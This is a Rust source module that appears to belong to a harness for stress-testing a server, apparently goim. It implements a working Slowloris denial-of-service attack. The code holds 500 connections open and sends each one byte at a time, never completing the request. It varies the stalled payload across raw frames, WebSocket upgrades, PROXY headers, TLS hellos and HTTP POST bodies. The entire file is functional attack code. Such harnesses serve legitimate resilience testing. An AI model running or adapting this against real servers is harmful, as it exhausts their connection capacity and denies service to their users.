//! Slowloris: connections that send what they have to say one byte after the other.

use std::io::{ErrorKind, Read, Write};
use std::net::{IpAddr, Ipv4Addr, TcpStream};

use super::attacker::Attacker;
use crate::Result;
use crate::clock::{MILLISECOND_NS, now_ns, sleep_until};
use crate::dial::begin_to_connect;
use crate::tls::Tls;

/// Connections at once.
const CONNECTIONS: usize = 500;
/// Time between two bytes of a connection.
const BYTE_NS: u64 = 100 * MILLISECOND_NS;
/// The connections take turns in this many groups.
const GROUPS: usize = 10;

/// What is said so slowly.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub(super) enum Trickle {
    Frame,
    Upgrade,
    ProxyHeader,
    Hello,
    Push,
}

/// Trickles until the attack is over; gives the connections that were made. Those that the server has closed are made
/// again.
pub(super) fn run(attacker: &Attacker, trickle: Trickle) -> Result<u64> {
    let words = words(attacker, trickle)?;
    let (address, source) = match trickle {
        Trickle::Frame | Trickle::Hello => (attacker.endpoints.tcp, None),
        Trickle::Upgrade => (attacker.endpoints.websocket.unwrap_or(attacker.endpoints.tcp), None),
        Trickle::ProxyHeader => (attacker.endpoints.tcp, Some(IpAddr::from(attacker.site.proxy))),
        Trickle::Push => (attacker.site.http, None),
    };
    let begin = || Ok::<_, rustix::io::Errno>((begin_to_connect(address, source, None)?, 0));
    let (mut connections, mut made) = (Vec::<(TcpStream, usize)>::new(), 0);
    while connections.len() < CONNECTIONS {
        connections.push(begin()?);
        made += 1;
    }
    let mut group = 0;
    while !attacker.signs.is_over() {
        group = (group + 1) % GROUPS;
        for connection in connections.iter_mut().skip(group).step_by(GROUPS) {
            let (stream, at) = connection;
            let is_open = match stream.write(&words[*at..=*at]) {
                Ok(written) => {
                    // The last byte is never said.
                    *at = (*at + written).min(words.len() - 2);
                    !matches!(stream.read(&mut [0; 512]), Ok(0))
                }
                // It is not connected yet.
                Err(error) => error.kind() == ErrorKind::WouldBlock,
            };
            if !is_open {
                *connection = begin()?;
                made += 1;
            }
        }
        attacker.signs.set_under_way();
        sleep_until(now_ns() + BYTE_NS / GROUPS as u64);
    }
    Ok(made)
}

fn words(attacker: &Attacker, trickle: Trickle) -> Result<Vec<u8>> {
    Ok(match trickle {
        // A header that announces a token of 4 KiB.
        Trickle::Frame => {
            [&b"\0\0\x10\0\0\x10\0\x01\0\0\0\x07\0\0\0\x01"[..], &[b'x'; 4096]].concat()
        }
        Trickle::Upgrade => {
            let head = "GET /sub HTTP/1.1\r\nHost: localhost\r\n";
            [head.as_bytes(), "X-Wait: a\r\n".repeat(100).as_bytes()].concat()
        }
        Trickle::ProxyHeader => b"PROXY TCP4 192.0.2.1 192.0.2.2 50000 8080\r\n".to_vec(),
        Trickle::Hello => {
            let trust = attacker.endpoints.tls.as_ref().ok_or("the server has no TLS")?;
            Tls::new(trust, IpAddr::from(Ipv4Addr::LOCALHOST))?.hello()?
        }
        Trickle::Push => {
            let head = "POST /goim/push/keys?operation=1000&keys=nobody HTTP/1.1\r\n\
                        Host: localhost\r\nContent-Length: 4096\r\n\r\n";
            [head.as_bytes(), &[b'x'; 4096]].concat()
        }
    })
}
